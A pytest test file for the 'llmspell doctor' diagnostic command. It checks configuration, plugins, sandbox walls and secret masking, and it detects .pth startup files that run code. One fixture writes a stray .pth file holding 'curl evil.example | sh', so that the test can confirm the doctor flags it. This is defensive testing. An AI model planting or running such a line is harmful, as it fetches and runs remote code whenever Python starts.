"""`llmspell doctor`: green on a clean machine, and red where something is wrong, each check in turn."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.cli.conftest import environment

from llmspell.bridge.walls import NAMES
from llmspell.doctor import python as interpreter
from llmspell.doctor.startup import examine_folders

Report = dict[str, list[dict[str, str]]]
Doctor = Callable[..., tuple[int, Report]]

ROOT = Path(__file__).parents[2]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home folder that can be written."""
    folder = tmp_path / "home"
    folder.mkdir()
    return folder


@pytest.fixture
def run(tmp_path: Path, home: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Runs `llmspell doctor WORDS...` in a folder of its own."""
    project = tmp_path / "project"
    project.mkdir()

    def begin(*words: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["llmspell", "doctor", *words],
            cwd=project,
            env=environment(**{"HOME": str(home), **extra}),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )

    return begin


@pytest.fixture
def doctor(run: Callable[..., subprocess.CompletedProcess[str]]) -> Doctor:
    """The exit code, and what each check found, by the check's name."""

    def examine(*words: str, **extra: str) -> tuple[int, Report]:
        ended = run("--json", *words, **extra)
        assert ended.stderr == ""
        shown = json.loads(ended.stdout)
        assert shown["schema"] == "llmspell.doctor/1"
        report: Report = {}
        for check in shown["checks"]:
            report.setdefault(check["name"], []).append(check)
        return ended.returncode, report

    return examine


def only(report: Report, name: str) -> dict[str, str]:
    [check] = report[name]
    return check


def package(folder: Path, name: str, source: str, points: str) -> dict[str, str]:
    """An installed distribution with one module; gives the variables that make it visible."""
    info = folder / f"{name}-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(points)
    (folder / f"{name}.py").write_text(source)
    return {"PYTHONPATH": str(folder)}


def test_a_clean_machine_is_green(doctor: Doctor) -> None:
    code, report = doctor()
    errors = [check for checks in report.values() for check in checks if check["status"] == "error"]
    assert errors == []
    assert code == 0
    for name in ("python", "configuration", "folder:config", "folder:state", "folder:scratch", "keys", "network"):
        assert only(report, name)["status"] == "ok"
    assert not [name for name in report if name.startswith("provider:")]  # nobody asked for that
    for engine in ("lua", "javascript", "quickjs"):
        assert only(report, f"engine:{engine}")["status"] == "ok"
        assert only(report, f"worker:{engine}")["status"] == "ok"


def test_for_people_each_check_is_a_line_and_a_hint_stands_below(
    run: Callable[..., subprocess.CompletedProcess[str]],
) -> None:
    ended = run("python", "network", SSL_CERT_FILE="/no/such/file")
    assert ended.returncode == 1
    lines = ended.stdout.splitlines()
    assert lines[0].startswith("ok       python: CPython ")
    at = lines.index("error    network: SSL_CERT_FILE names '/no/such/file', which does not exist")
    assert lines[at + 1] == "         hint: unset SSL_CERT_FILE"
    assert ended.stderr.endswith(" 1 wrong\n")


@pytest.mark.parametrize(
    ("implementation", "version", "bits", "status"),
    [
        pytest.param("CPython", "3.11.7", 64, "ok", id="final"),
        pytest.param("CPython", "3.15.0rc1", 64, "warning", id="candidate"),
        pytest.param("PyPy", "3.11.7", 64, "warning", id="another-kind"),
        pytest.param("CPython", "3.11.7", 32, "warning", id="32-bits"),
    ],
)
def test_the_interpreter_is_judged(implementation: str, version: str, bits: int, status: str) -> None:
    assert interpreter.judge(implementation, version, bits).status == status


def test_invalid_configuration_is_red_and_stops_no_other_check(doctor: Doctor, tmp_path: Path) -> None:
    (tmp_path / "project" / "llmspell.toml").write_text("[budget]\ntokens = 'many'\nstepz = 1\n")
    code, report = doctor("configuration", "walls")
    assert code == 1
    problems = [check["summary"] for check in report["configuration"] if check["status"] == "error"]
    assert problems[0].startswith("llmspell.toml:2: `budget.tokens` must be an integer, found 'many'")
    assert problems[1].startswith("llmspell.toml:3: `budget.stepz` is not known; did you mean 'steps'?")
    assert only(report, "worker:lua")["status"] == "ok"


def test_it_is_shown_where_settings_come_from(doctor: Doctor, home: Path) -> None:
    folder = home / ".config" / "llmspell"
    folder.mkdir(parents=True)
    (folder / "config.toml").write_text("[budget]\ntokens = 5\nsteps = 6\n")
    _, report = doctor("configuration", LLMSPELL_LIMITS__SLICE="7")
    summary = only(report, "configuration")["summary"]
    assert f"{folder / 'config.toml'} (2)" in summary
    assert "LLMSPELL_LIMITS__SLICE (1)" in summary


@pytest.mark.parametrize("what", ["config", "state"])
def test_a_folder_that_cannot_be_written_is_red(doctor: Doctor, what: str) -> None:
    variable = f"LLMSPELL_{what.upper()}_HOME"
    code, report = doctor("folders", **{variable: "/proc/llmspell"})  # not even root makes a folder there
    assert code == 1
    found = only(report, f"folder:{what}")
    assert found["status"] == "error"
    assert found["summary"].startswith("/proc/llmspell cannot be written: ")
    assert found["hint"] == f"make it writable, or name another with {variable}"


@pytest.mark.parametrize(
    ("source", "says"),
    [
        pytest.param("import a_package_that_nobody_has", "ModuleNotFoundError: No module named", id="does-not-import"),
        pytest.param("raise SystemExit(0)", "does not load: SystemExit: 0", id="wants-to-end"),
        pytest.param("import os; os._exit(7)", "ends its process with 7", id="ends-the-process"),
        pytest.param("x = 1", "does not load: ", id="offers-nothing"),
    ],
)
def test_a_broken_plugin_is_red_and_named(doctor: Doctor, tmp_path: Path, source: str, says: str) -> None:
    extra = package(tmp_path / "site", "broken_pack", source + "\n", "[llmspell.tools]\nbroken = broken_pack\n")
    code, report = doctor("plugins", **extra)
    assert code == 1
    found = only(report, "plugin:broken-pack")
    assert found["status"] == "error"
    assert "broken-pack (tool broken)" in found["summary"]
    assert says in found["summary"]
    assert "LLMSPELL_BLOCK=broken-pack" in found["hint"]
    assert {check["status"] for check in report["plugin:llmspell-tool-core"]} == {"ok"}


def test_a_blocked_plugin_is_not_loaded(doctor: Doctor, tmp_path: Path) -> None:
    extra = package(tmp_path / "site", "broken_pack", "import os; os._exit(7)\n", "[llmspell.tools]\nb = broken_pack\n")
    code, report = doctor("plugins", LLMSPELL_BLOCK="broken-pack", **extra)
    assert code == 0
    assert "plugin:broken-pack" not in report


def test_a_slow_plugin_is_to_be_looked_at(doctor: Doctor, tmp_path: Path) -> None:
    extra = package(tmp_path / "more", "slow_hook", SLOW_HOOK, "[llmspell.hooks]\nslow = slow_hook\n")
    _, report = doctor("plugins", **extra)
    found = only(report, "plugin:slow-hook")
    assert found["status"] == "warning"
    assert found["summary"].endswith("ms of processor time, which is slow")


SLOW_HOOK = """
import time
from llmspell.hookspecs import hookimpl
end = time.process_time() + 0.7
while time.process_time() < end: pass
class Slow: pass
@hookimpl
def llmspell_hooks(settings):
    return {"slow": Slow()}
"""


def test_an_engine_whose_machine_does_not_load_is_red(doctor: Doctor, tmp_path: Path) -> None:
    source = """
from llmspell.engine import Engine
from llmspell.hookspecs import hookimpl
class Odd(Engine):
    name, language, extensions, machine = "odd", "odd", ("odd",), "odd_engine:NoSuchClass"
@hookimpl
def llmspell_engines(settings):
    return {"odd": Odd()}
"""
    extra = package(tmp_path / "site", "odd_engine", source, "[llmspell.engines]\nodd = odd_engine\n")
    code, report = doctor("engines", "walls", **extra)
    assert code == 1
    found = only(report, "worker:odd")
    assert found["status"] == "error"
    assert "module 'odd_engine' has no class 'NoSuchClass'" in found["summary"]
    assert only(report, "engine:odd")["summary"] == "odd-engine 1.0 on nothing else that is installed"


def test_an_engine_that_has_not_been_renewed_for_long_is_to_be_looked_at(doctor: Doctor, tmp_path: Path) -> None:
    site = tmp_path / "site"
    package(site, "old_machine", "", "")
    (site / "old_machine-1.0.dist-info" / "RECORD").write_text("old_machine-1.0.dist-info/METADATA,,\n")
    os.utime(site / "old_machine-1.0.dist-info" / "METADATA", (0, 0))
    extra = package(site, "odd_engine", "", "[llmspell.engines]\nodd = odd_engine\n")
    with (site / "odd_engine-1.0.dist-info" / "METADATA").open("a") as file:
        file.write("Requires-Dist: old-machine<2\nRequires-Dist: llmspell\n")
    _, report = doctor("engines", **extra)
    found = only(report, "engine:odd")
    assert found["status"] == "warning"
    assert found["hint"] == "pip install --upgrade old-machine"


def test_a_wall_that_is_demanded_and_missing_is_red(doctor: Doctor) -> None:
    # V8 needs threads, so the system cannot refuse them to it; and root's are never counted.
    code, report = doctor("walls", LLMSPELL_SANDBOX__REQUIRE='["rlimit.processes"]')
    found = only(report, "worker:javascript")
    assert (code, found["status"]) == (1, "error")
    assert "rlimit.processes (the engine needs threads)" in found["summary"]
    assert 'accept_missing = ["rlimit.processes"]' in found["hint"]


WITHOUT_SECCOMP = """
import os, sys
from llmspell.bridge import limits, seccomp
call = seccomp._MACHINES[os.uname().machine].call
limits._prctl(38, 1)
seccomp.load([(0x20, 0, 0, 0), (0x15, 0, 1, call), (6, 0, 0, 0x50000 | 38), (6, 0, 0, 0x7fff0000)], call)
from llmspell.doctor import System, walls
for check in walls.examine(System.here()):
    print(check.status, check.name, check.summary)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="seccomp is Linux's")
def test_a_wall_that_the_system_lacks_is_named_with_what_it_means(home: Path) -> None:
    ended = subprocess.run(
        [sys.executable, "-c", WITHOUT_SECCOMP],
        env=environment(HOME=str(home)),
        cwd=home,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    if "OSError" in ended.stderr:
        pytest.skip("the system has no seccomp to take away")
    assert (
        "warning wall:seccomp it is missing (the system refuses the filter: Function not implemented), so a script "
        "that takes over its engine may attack the operating system; profile high refuses to run\n"
    ) in ended.stdout, ended.stderr


def test_every_wall_has_a_meaning_and_a_line_in_the_documentation() -> None:
    from llmspell.doctor.walls import _MEANING

    rows = [line for line in (ROOT / "docs" / "walls.md").read_text().splitlines() if line.startswith("| `")]
    assert list(_MEANING) == list(NAMES) == [row.split("`")[1] for row in rows]


def test_keys_are_shown_by_name_only(run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    ended = run("--json", "keys", OPENAI_API_KEY="sk-never-show-this-1234567890")
    assert "sk-never" not in ended.stdout + ended.stderr
    checks = {check["name"]: check["summary"] for check in json.loads(ended.stdout)["checks"]}
    assert checks["key:openai"] == "OPENAI_API_KEY is in the environment"


def test_proxies_are_shown_by_name_only(run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    ended = run("--json", "network", HTTPS_PROXY="http://ann:tulip@proxy.example:3128")
    assert "tulip" not in ended.stdout
    assert "proxy.example" not in ended.stdout
    assert "these variables are set: HTTPS_PROXY" in ended.stdout


def test_a_provider_whose_server_does_not_answer_is_red_when_asked(doctor: Doctor) -> None:
    # Port 1 of the loopback address: nobody listens.
    extra = {"OPENAI_API_KEY": "sk-test-1234567890", "LLMSPELL_PROVIDER__OPENAI__BASE_URL": "http://127.0.0.1:1/v1"}
    code, report = doctor("--online", "keys", **extra)
    assert code == 1
    assert only(report, "provider:openai")["status"] == "error"
    assert "key:openai" in report


class TestStartup:
    """Lines of code in `.pth` files."""

    def examine(self, folder: Path) -> list[tuple[str, str]]:
        return [(check.status, check.summary) for check in examine_folders([folder])]

    def test_a_file_that_only_names_folders_is_green(self, tmp_path: Path) -> None:
        (tmp_path / "plain.pth").write_text("# import nothing\n/opt/important\nimportlib_is_a_folder\n")
        assert self.examine(tmp_path) == [("ok", "no .pth file runs code when Python starts")]

    def test_a_stray_file_with_code_is_red(self, tmp_path: Path) -> None:
        (tmp_path / "stray.pth").write_text("/opt\nimport os; os.system('curl evil.example | sh')\nimport sys\n")
        [(status, summary)] = self.examine(tmp_path)
        assert status == "error"
        assert "import os; os.system('curl evil.example | sh') (and 1 more lines)" in summary
        assert summary.endswith("; no installed distribution lists it")

    @pytest.mark.parametrize("start", ["import\tos", "\ufeffimport os"], ids=["tab", "byte-order-mark"])
    def test_code_in_disguise_is_red(self, tmp_path: Path, start: str) -> None:
        (tmp_path / "stray.pth").write_text(start, encoding="utf-8")
        assert self.examine(tmp_path)[0][0] == "error"

    def test_a_file_that_a_distribution_lists_is_to_be_looked_at(self, tmp_path: Path) -> None:
        package(tmp_path, "tracer", "", "")
        (tmp_path / "tracer-1.0.dist-info" / "RECORD").write_text("tracer.pth,,\n")
        (tmp_path / "tracer.pth").write_text("import tracer\n")
        [(status, summary)] = self.examine(tmp_path)
        assert (status, summary.rpartition("; ")[2]) == ("warning", "it belongs to tracer 1.0")

    def test_one_in_a_folder_of_the_path_turns_the_doctor_red(self, doctor: Doctor, tmp_path: Path) -> None:
        site = tmp_path / "site"
        site.mkdir()
        (site / "stray.pth").write_text("import os\n")
        code, report = doctor("startup", PYTHONPATH=str(site))
        assert code == 1
        [found] = [check for check in report["startup"] if check["status"] == "error"]
        assert found["hint"] == f"find out where it comes from, or remove it: rm {site / 'stray.pth'}"


def test_a_check_that_breaks_is_red_and_stops_no_other(doctor: Doctor, tmp_path: Path) -> None:
    # A package called keyring without what one has.
    site = tmp_path / "site"
    (site / "keyring").mkdir(parents=True)
    (site / "keyring" / "__init__.py").write_text("")
    code, report = doctor("keyring", "startup", PYTHONPATH=str(site))
    assert code == 1
    assert "the package keyring does not work: AttributeError" in only(report, "keyring")["summary"]
    assert "startup" in report


def test_a_group_that_does_not_exist_is_a_mistake(run: Callable[..., subprocess.CompletedProcess[str]]) -> None:
    ended = run("wals")
    assert ended.returncode == 2
    assert "'wals' is not one of 'python', 'configuration'," in ended.stderr


def test_what_cannot_be_examined_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    from llmspell.doctor import System, examine, network

    def broken(_: System) -> Any:
        raise RuntimeError("the wires are crossed")

    monkeypatch.setattr(network, "examine", broken)
    first, second = examine(System.here(), ("network", "python"))
    assert (first.status, first.summary) == ("error", "this could not be examined: RuntimeError: the wires are crossed")
    assert second.name == "python"
